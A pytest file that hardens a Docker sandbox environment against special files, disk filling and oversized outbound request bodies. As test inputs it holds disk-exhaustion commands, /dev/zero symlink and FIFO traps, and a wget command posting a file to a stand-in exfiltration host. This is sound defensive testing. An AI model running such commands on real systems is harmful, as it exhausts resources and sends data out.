"""Issue 10 item 2: docker content the host reads cannot be turned against the host.

A symlink to ``/dev/zero`` made the world's bookkeeping read without limit into the
host (2.6 GB, then ``MemoryError`` out of ``env.step``); a FIFO blocked the harness for
minutes; a full sandbox broke every later ``reset()``. Here the same actions run
through the environment (in a bounded child process where the old behaviour would
exhaust the host) and must give ordinary observations, and the sink must keep a
bounded share of any body.
"""

from __future__ import annotations

import errno
import io
from typing import Any

import pytest

from tests.hardening.bounded import run_bounded
from tests.hardening.engine import docker_problem
from tests.hardening.scenarios import SHELL_SCENARIO, write_scenario

docker_only = pytest.mark.skipif(docker_problem() is not None, reason=str(docker_problem()))

_EPISODE = """
    from mosaic_gym.envs.mosaic_env import MosaicEnv
    from tests.hardening.scenarios import action
    env = MosaicEnv(scenario={path!r}, backend="docker", max_steps=4)
    env.reset(seed=0)
    seen = []
    for command in {commands!r}:
        obs, reward, terminated, truncated, info = env.step(action("run_shell", command=command))
        seen.append(obs[-300:])
        if terminated or truncated:
            break
    outcome = info.get("outcome")
    env.reset(seed=1)
    obs, *_ = env.step(action("run_shell", command="cat notes.txt"))
    report({{"seen": seen, "infra": outcome["infra_error"] if outcome else None,
             "after_reset": obs}})
    env.close()
"""


@pytest.mark.parametrize("make", [
    "ln -s /dev/zero ~/z", "mkfifo ~/p", "ln -s /dev/urandom /tmp/r; mkfifo /tmp/f",
])
@pytest.mark.docker
@docker_only
def test_special_files_are_recorded_never_opened(tmp_path: Any, make: str) -> None:
    path = write_scenario(tmp_path, SHELL_SCENARIO)
    result = run_bounded(_EPISODE.format(path=str(path), commands=[make, "ls ~ /tmp; echo ok"]))
    assert result["infra"] is None, result
    assert "ok" in result["seen"][-1], result
    assert "keep me" in result["after_reset"], result


@pytest.mark.docker
@docker_only
def test_a_full_sandbox_ends_cleanly_and_the_next_reset_works(tmp_path: Any) -> None:
    path = write_scenario(tmp_path, SHELL_SCENARIO)
    fill = "cat /dev/zero > ~/fill; cat /dev/zero > /tmp/fill; df -k ~ /tmp | tail -2"
    result = run_bounded(_EPISODE.format(path=str(path), commands=[fill, "echo still"]))
    # Either the step still worked (the harness coped) or it is an infra error; never
    # an exception, and never a broken next episode.
    assert "keep me" in result["after_reset"], result


@pytest.mark.docker
@docker_only
def test_host_reads_are_regular_files_of_bounded_size() -> None:
    from mosaic_gym.sandbox.docker import DockerSandbox
    from mosaic_gym.sandbox.docker.limits import MAX_HOST_READ_BYTES

    box = DockerSandbox()
    try:
        box.setup([])
        size = MAX_HOST_READ_BYTES + 10
        box.exec(f"ln -s /dev/zero z; mkfifo p; head -c {size} /dev/zero > big; "
                 "echo hi > small; ln -s small link", timeout=60)
        for name in ("z", "p", "link"):
            with pytest.raises(OSError) as caught:
                box.read_file(name)
            assert caught.value.errno == errno.EINVAL, name
        with pytest.raises(OSError) as caught:
            box.read_file("big")
        assert caught.value.errno == errno.EFBIG
        assert box.read_file("small") == b"hi\n"
        states = box.snapshot()
        assert not states["/home/user/p"].is_dir and states["/home/user/p"].size == 0
        # A FIFO is not an empty regular file, nor a link the file it names.
        assert states["/home/user/p"].sha256 != states["/home/user/small"].sha256
        assert states["/home/user/link"].sha256 != states["/home/user/small"].sha256
    finally:
        box.close()


def test_the_sink_keeps_a_bounded_share_of_a_body() -> None:
    """Bodies are read in chunks; no more than the scanned window is ever held."""
    from mosaic_gym.sandbox.docker.limits import MAX_SINK_BODY_BYTES, MAX_SINK_READ_BYTES
    from mosaic_gym.sandbox.docker.sink import _read_bounded

    class Counting(io.RawIOBase):
        def __init__(self, size: int) -> None:
            self.left = size
            self.largest = 0

        def read(self, n: int = -1) -> bytes:
            n = self.left if n < 0 else min(n, self.left)
            self.largest = max(self.largest, n)
            self.left -= n
            return b"x" * n

    stream = Counting(20 * 1024 * 1024)
    kept, total = _read_bounded(stream, 20 * 1024 * 1024)
    assert len(kept) == MAX_SINK_BODY_BYTES + 1 and total == 20 * 1024 * 1024
    assert stream.largest <= 1 << 16
    assert stream.left == 20 * 1024 * 1024 - MAX_SINK_READ_BYTES  # the rest is never read
    small, size = _read_bounded(Counting(10), 10)
    assert (small, size) == (b"x" * 10, 10)


@pytest.mark.docker
@docker_only
def test_an_oversized_body_through_the_sink_is_refused_and_not_recorded(tmp_path: Any) -> None:
    from mosaic_gym.envs.mosaic_env import MosaicEnv
    from tests.hardening.scenarios import action

    env = MosaicEnv(scenario=str(write_scenario(tmp_path, SHELL_SCENARIO)), backend="docker",
                    max_steps=6)
    try:
        env.reset(seed=0)
        if env.sandbox is None or env.sandbox._pool.egress is None:  # type: ignore[attr-defined]
            pytest.skip("no egress network on this machine")
        obs, *_ = env.step(action("run_shell", command=(
            "head -c 4000000 /dev/zero | tr '\\0' x > big; "
            "wget -q -O - --post-file big http://exfil.example/up; echo rc=$?")))
        assert "413" in obs and "rc=1" in obs, obs
        world = env.episode.world
        assert world.egress == [] and world.web.requests == []
        env.step(action("run_shell", command="wget -q -O - --post-data hi http://exfil.example/"))
        assert len(world.egress) == 1
    finally:
        env.close()
